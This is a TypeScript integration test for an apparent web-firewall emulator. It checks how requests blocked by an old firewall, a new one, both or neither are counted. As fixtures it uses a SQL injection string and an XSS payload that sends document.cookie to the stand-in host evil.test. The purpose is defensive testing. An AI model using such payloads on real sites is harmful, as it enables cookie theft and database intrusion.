/** What a zone with both firewalls counts, from requests at an edge to the API. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, it } from 'node:test';
import { managedRuleset } from '../../src/catalogs/managed-rulesets/managed/managed.ts';
import { managedPackage } from '../../src/catalogs/previous-firewall/managed-package.ts';
import { owaspPackage } from '../../src/catalogs/previous-firewall/owasp-package.ts';
import { FIREWALL_COMPARISONS_TOPIC } from '../../src/contracts/events/firewall-comparison.ts';
import type { ZoneSections } from '../../src/contracts/snapshot/zone-snapshot.ts';
import { describeOnEachDatabase } from '../support/databases.ts';
import { balancerOf, originOf, poolOf, updateOf, zoneOf } from '../support/edge-snapshots.ts';
import { openTestApi, type TestApi } from '../support/test-api.ts';
import { openTestEdge, type TestEdge } from '../support/test-edge.ts';
import { type Sent, visitAndFlush } from '../support/visit.ts';

const UNION = `id=${encodeURIComponent('1 union select password from users')}`;
const HTML = `q=${encodeURIComponent('<script>fetch("//evil.test/"+document.cookie)</script>')}`;
const headers = { 'user-agent': 'test', accept: '*/*' };
const attack = (path: string): Sent => ({ path: `${path}?${UNION}`, headers });
const form = (path: string): Sent => ({
  path,
  method: 'POST',
  body: UNION,
  headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
});
const ruleNamed = (name: string) =>
  managedPackage.rules.find(({ description }) => description === name) ?? assert.fail();
const scripts = [ruleNamed('HTML injection'), ruleNamed('JavaScript injection')];
const entryPoint = 'rulesets/phases/http_request_firewall_managed/entrypoint';

describeOnEachDatabase('the comparison of both firewalls', (kind) => {
  let origin: Server;
  let edge: TestEdge;
  let api: TestApi;
  let zoneId: string;
  let host: string;

  before(async () => {
    origin = createServer((incoming, outgoing) => {
      incoming.resume().on('end', () => outgoing.end('ok'));
    }).listen(0, '127.0.0.1');
    await once(origin, 'listening');
    const pool = poolOf('pool', [originOf((origin.address() as AddressInfo).port)]);
    edge = await openTestEdge({ pools: [pool] });
    api = await openTestApi(kind);
    zoneId = await api.newZone();
    host = (await call('GET', '')).name;
    await configure();
    await edge.apply(updateOf({ zones: [zoneOf(host, await sections(), zoneId)] }));
  });
  after(async () => {
    await edge.close();
    origin.close();
    await api.close();
  });

  async function call(method: string, path: string, body?: object) {
    const answer = await api.call(method, `/zones/${zoneId}/${path}`.replace(/\/$/, ''), { body });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    return answer.body.result;
  }

  /** Both firewalls run; the new one skips `/only-old`, logs scripts, and a page rule keeps the previous one from `/only-new`. */
  async function configure(): Promise<void> {
    await call('PATCH', 'settings/waf', { value: 'on' });
    await call('PATCH', `firewall/waf/packages/${owaspPackage.id}`, { sensitivity: 'off' });
    const constraint = { operator: 'matches', value: `${host}/only-new*` };
    await call('POST', 'pagerules', {
      targets: [{ target: 'url', constraint }],
      actions: [{ id: 'waf', value: 'off' }],
      status: 'active',
    });
    const skipped = { action: 'skip', action_parameters: { ruleset: 'current' } };
    const overrides = {
      rules: scripts.map(({ currentId: id }) => ({ id, action: 'log', enabled: true })),
    };
    const rules = [
      { ...skipped, expression: 'http.request.uri.path eq "/only-old"' },
      { action: 'block', expression: 'http.request.uri.path eq "/closed"' },
      {
        action: 'block',
        expression: 'http.request.uri.path eq "/unlogged"',
        logging: { enabled: false },
      },
      {
        action: 'execute',
        expression: 'true',
        action_parameters: { id: managedRuleset.id, overrides },
      },
    ];
    await call('PUT', `${entryPoint}?waf_migration=validation&phase_two=1`, { rules });
  }

  /** The zone as the node would send it to an edge process. */
  async function sections(): Promise<Partial<ZoneSections>> {
    const wanted = ['rulesets', 'previousFirewall'];
    const parts = api.core.modules.flatMap((module) => module.sections);
    const built = await Promise.all(
      parts
        .filter(({ name }) => wanted.includes(name))
        .map(async (part) => [part.name, (await part.build([zoneId])).get(zoneId)]),
    );
    return {
      ...Object.fromEntries(built),
      loadBalancing: { balancers: [balancerOf(host, ['pool'])] },
    };
  }

  const visit = async (sent: Sent) =>
    (await visitAndFlush(edge, { ...sent, headers: { ...sent.headers, host } })).status;
  const comparison = () => call('GET', 'waf_migration/comparison');

  it('counts requests that one of them, both or neither stops', async () => {
    const requests: readonly (readonly [Sent, number])[] = [
      [{ path: '/', headers }, 200],
      [attack('/both'), 403],
      [form('/both'), 403],
      [attack('/only-new'), 403],
      [form('/only-new'), 403],
      [attack('/only-new/x'), 403],
      [attack('/only-old'), 403],
      // A refusal that does not need the body: the previous rules see an empty one.
      [form('/closed'), 403],
      [{ path: '/unlogged', headers }, 403],
      [{ path: `/?${HTML}`, headers }, 403],
      [{ ...attack('/only-old'), method: 'HEAD' }, 200],
    ];
    for (const [sent, status] of requests) assert.equal(await visit(sent), status, `${sent.path}`);
    const messages = edge.comparisons.splice(0);
    assert.equal(messages.length, requests.length);
    assert.equal(await api.deliver(FIREWALL_COMPARISONS_TOPIC, messages), 0);
    await api.redeliver(FIREWALL_COMPARISONS_TOPIC);
    const { requests: counts, rules, since, not_migrated: lost } = await comparison();
    assert.deepEqual(counts, { total: 11, neither: 2, old: 2, new: 5, both: 2 });
    const found = rules.map((rule: Record<string, unknown>) => {
      const { firewall, description, requests: count, alone } = rule;
      return `${firewall} ${description}: ${count}, ${alone} alone`;
    });
    assert.deepEqual(found.toSorted(), [
      'new : 1, 1 alone',
      'new : 1, 1 alone',
      'new HTML injection: 1, 0 alone',
      'new JavaScript injection: 1, 0 alone',
      'new SQL injection: 5, 3 alone',
      'old HTML injection: 1, 1 alone',
      'old SQL injection: 3, 1 alone',
    ]);
    assert.deepEqual([typeof since, lost], ['string', []]);
  });

  it('counts nothing while the previous rules are off', async () => {
    await call('PATCH', 'settings/waf', { value: 'off' });
    await call('POST', 'firewall/rules', [{ action: 'log', filter: { expression: 'true' } }]);
    await edge.apply(updateOf({ zones: [zoneOf(host, await sections(), zoneId)] }));
    assert.equal(await visit(attack('/only-old')), 200);
    assert.equal(await visit(attack('/both')), 403);
    assert.deepEqual(edge.comparisons.splice(0), []);
  });
});
